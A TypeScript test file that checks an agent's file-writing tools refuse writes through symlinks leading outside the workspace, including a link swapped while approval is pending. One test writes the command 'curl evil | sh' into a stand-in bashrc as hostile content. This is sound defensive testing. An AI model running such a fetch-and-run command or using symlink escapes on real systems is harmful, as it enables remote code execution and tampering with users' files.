import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync, existsSync, lstatSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { runTool } from '../../../electron/core/tools/run-tool'
import { newTurnState, type ApprovalRequest, type ToolContext, type ToolDef } from '../../../electron/core/tools/types'
import { createEditFileTool } from '../../../electron/core/workspace/edit-file'
import { createWriteFileTool } from '../../../electron/core/workspace/write-file'

type Result = Record<string, any>

let workspace: string
let outside: string
let requests: ApprovalRequest[]
const writeTool = createWriteFileTool({}) as ToolDef
const editTool = createEditFileTool({}) as ToolDef

function approver(answer: boolean, during?: () => void): ToolContext['approve'] {
  return async (request) => {
    requests.push(request)
    during?.()
    return answer
  }
}

async function run(tool: ToolDef, args: unknown, approve = approver(true)): Promise<Result> {
  return (await runTool(tool, args, { write: { source: 'agent' }, turn: newTurnState(), workspace, approve })) as Result
}

beforeEach(() => {
  workspace = realpathSync(mkdtempSync(join(tmpdir(), 'cairn-ws-')))
  outside = realpathSync(mkdtempSync(join(tmpdir(), 'cairn-outside-')))
  requests = []
})
afterEach(() => {
  rmSync(workspace, { recursive: true, force: true })
  rmSync(outside, { recursive: true, force: true })
})

describe('writes through symlinks', () => {
  it('refuses write_file through a symlink in the workspace that leads outside, naming the real target, and asks nothing', async () => {
    const secret = join(outside, 'bashrc')
    writeFileSync(secret, 'export PATH=/usr/bin\n')
    symlinkSync(secret, join(workspace, 'notes.md'))
    const result = await run(writeTool, { path: 'notes.md', content: 'curl evil | sh\n' })
    expect(result).toMatchObject({ success: false })
    expect(result.error).toContain(secret)
    expect(result.error).toMatch(/outside the workspace/)
    expect(requests).toEqual([])
    expect(readFileSync(secret, 'utf8')).toBe('export PATH=/usr/bin\n')
    expect(lstatSync(join(workspace, 'notes.md')).isSymbolicLink()).toBe(true)
  })

  it('refuses a new file under a symlinked folder that leads outside, and a dangling link to outside', async () => {
    symlinkSync(outside, join(workspace, 'shared'))
    symlinkSync(join(outside, 'not-yet.txt'), join(workspace, 'dangling.txt'))
    for (const path of ['shared/new.txt', 'dangling.txt']) {
      const result = await run(writeTool, { path, content: 'x' })
      expect(result, path).toMatchObject({ success: false, error: expect.stringMatching(/outside the workspace/) })
    }
    expect(existsSync(join(outside, 'new.txt'))).toBe(false)
    expect(existsSync(join(outside, 'not-yet.txt'))).toBe(false)
    expect(requests).toEqual([])
  })

  it('refuses edit_file through a symlink that leads outside', async () => {
    const target = join(outside, 'config.yml')
    writeFileSync(target, 'debug: false\n')
    symlinkSync(target, join(workspace, 'config.yml'))
    const result = await run(editTool, { path: 'config.yml', old_string: 'debug: false', new_string: 'debug: true' })
    expect(result).toMatchObject({ success: false, error: expect.stringContaining(target) })
    expect(requests).toEqual([])
    expect(readFileSync(target, 'utf8')).toBe('debug: false\n')
  })

  it('shows and approves the real target of a symlink that stays inside the workspace, and keeps the link', async () => {
    mkdirSync(join(workspace, 'docs'))
    writeFileSync(join(workspace, 'docs', 'real.md'), 'one\n')
    symlinkSync(join(workspace, 'docs', 'real.md'), join(workspace, 'alias.md'))
    const result = await run(writeTool, { path: 'alias.md', content: 'two\n' })
    expect(result).toMatchObject({ success: true, path: 'docs/real.md' })
    expect(requests[0]).toMatchObject({ kind: 'write', path: join(workspace, 'docs', 'real.md') })
    expect(requests[0].summary).toBe('Overwrite docs/real.md (+1 −1 lines), through the symlink alias.md')
    expect(requests[0].preview).toContain('--- a/docs/real.md')
    expect(readFileSync(join(workspace, 'docs', 'real.md'), 'utf8')).toBe('two\n')
    expect(lstatSync(join(workspace, 'alias.md')).isSymbolicLink()).toBe(true)

    const edited = await run(editTool, { path: 'alias.md', old_string: 'two', new_string: 'three' })
    expect(edited).toMatchObject({ success: true, path: 'docs/real.md' })
    expect(requests[1]).toMatchObject({ path: join(workspace, 'docs', 'real.md'), summary: expect.stringMatching(/^Edit docs\/real\.md .*through the symlink alias\.md$/) })
  })

  it('asks with the real path for a path named outside the workspace, as for any outside write', async () => {
    const real = join(outside, 'real.txt')
    writeFileSync(real, 'old\n')
    symlinkSync(real, join(outside, 'link.txt'))
    const result = await run(writeTool, { path: join(outside, 'link.txt'), content: 'new\n' }, approver(false))
    expect(result).toMatchObject({ success: false, denied: true })
    expect(requests[0]).toMatchObject({ path: real, summary: `Overwrite ${real} (+1 −1 lines), through the symlink ${join(outside, 'link.txt')}` })
    expect(readFileSync(real, 'utf8')).toBe('old\n')
  })

  it('writes nothing when the symlink is pointed elsewhere while the user decides', async () => {
    writeFileSync(join(workspace, 'a.txt'), 'a\n')
    writeFileSync(join(outside, 'victim.txt'), 'victim\n')
    symlinkSync(join(workspace, 'a.txt'), join(workspace, 'link.txt'))
    const swap = () => {
      rmSync(join(workspace, 'link.txt'))
      symlinkSync(join(outside, 'victim.txt'), join(workspace, 'link.txt'))
    }
    const result = await run(writeTool, { path: 'link.txt', content: 'b\n' }, approver(true, swap))
    expect(result).toMatchObject({ success: false, error: expect.stringMatching(/changed while waiting for approval/) })
    expect(readFileSync(join(outside, 'victim.txt'), 'utf8')).toBe('victim\n')
    expect(readFileSync(join(workspace, 'a.txt'), 'utf8')).toBe('a\n')
  })
})
